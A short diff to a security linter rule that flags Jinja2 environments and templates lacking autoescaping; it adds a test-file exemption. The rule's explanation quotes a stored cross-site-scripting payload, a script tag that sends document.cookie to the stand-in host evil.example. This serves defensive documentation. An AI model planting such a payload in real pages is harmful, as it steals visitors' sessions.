@@ -31,6 +31,7 @@ export default defineRule({
     bandit: 'B701',
     ruff: 'S701',
     fixable: true,
+    offInTests: true,
     docs: {
       what: 'Finds `jinja2.Environment(...)` (and the sandboxed environments) created without `autoescape` or with `autoescape=False`, and `jinja2.Template(...)` without autoescaping when its text is HTML (a literal containing tags) or not known. `autoescape=True`, `select_autoescape(...)` and an autoescape function are accepted; an Environment whose `**options` may set it is reported with low confidence. Templates whose literal text is not markup (emails in plain text, configuration files) are not reported.',
       why: 'Jinja2 does not escape by default: `{{ comment }}` copies the value into the page as it is, so a comment containing `<script>fetch("https://evil.example/?c="+document.cookie)</script>` runs in every visitor\'s browser (stored cross-site scripting) and can steal sessions or act as the user. Flask turns autoescaping on for its own templates, but an `Environment` you create yourself starts with it off.',
